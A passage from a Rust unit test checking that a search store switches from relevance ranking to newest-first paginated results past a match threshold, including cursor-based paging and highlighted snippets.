    assert_eq!(order_of(&ranked)[0], 0, "the answer that says it most");

    // Past it: newest first, two a page, and the next pages go on in that order.
    let first = store.search_ordered("common", &all, 2, None, 4).unwrap();
    assert_eq!(first.order, SearchOrder::Recent);
    assert_eq!(order_of(&first), [4, 3]);
    let second = store
        .search_ordered("common", &all, 2, first.next.as_deref(), 4)
        .unwrap();
    assert_eq!(
        (second.order, order_of(&second)),
        (SearchOrder::Recent, vec![2, 1])
    );
    let third = store
        .search_ordered("common", &all, 2, second.next.as_deref(), 4)
        .unwrap();
    assert_eq!(order_of(&third), [0]);
    assert_eq!(third.next, None);
    assert!(
        first.hits[0].snippet.contains("«common»"),
        "{}",
        first.hits[0].snippet
    );
    // A rarer word among them is still ranked.
    let rare = store
        .search_ordered("common filler", &all, 10, None, 4)
        .unwrap();
    assert_eq!(rare.order, SearchOrder::Relevance);
    // The public search waits for many more matches than five.
    assert_eq!(
        store.search("common", &all, 10, None).unwrap().order,
        SearchOrder::Relevance
    );
    assert_eq!(RECENT_ABOVE, 20_000, "the threshold ARCHITECTURE.md states");
}
